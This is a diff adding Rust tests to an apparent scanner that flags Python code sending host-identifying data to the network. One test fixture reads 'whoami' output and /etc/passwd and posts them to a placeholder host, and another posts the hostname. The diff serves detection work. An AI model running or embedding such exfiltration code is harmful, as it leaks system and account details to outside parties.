@@ -488,3 +488,26 @@ fn a_secret_spelled_into_a_dns_name_is_sent() {
     let configured = py("import os, socket\nhost = os.environ.get('NTP_HOST', 'pool.example.invalid')\nsocket.gethostbyname(host)\n");
     assert!(configured.is_empty(), "{configured:?}");
 }
+
+#[test]
+fn output_of_a_command_that_names_the_machine_is_host_identity() {
+    let popen = "import os\nfrom urllib import request, parse\nwho = os.popen('whoami').read()\nusers = os.popen('cat /etc/passwd').read()\nbody = parse.urlencode({'u': who, 'p': users}).encode()\nrequest.urlopen(request.Request('https://in.example.invalid/c', data=body))\n";
+    let found = py(popen);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+    let argv = "import subprocess, requests\nname = subprocess.check_output(['hostname']).decode()\nrequests.post('https://in.example.invalid/c', json={'n': name})\n";
+    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
+}
+
+#[test]
+fn output_of_a_command_that_picks_a_build_is_not_host_identity() {
+    // `uname -m` chooses which archive to download; the machine's name is not in it.
+    let text = "import os, subprocess, requests\narch = subprocess.check_output(['uname', '-m']).decode().strip()\nkernel = os.popen('uname').read().strip()\nrequests.get(f'https://dl.example.invalid/tool-{kernel}-{arch}.tar.gz')\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nrequests.post('https://ci.example.invalid/builds', json={'rev': rev})\n";
+    let found = py(text);
+    assert!(
+        found.iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+}
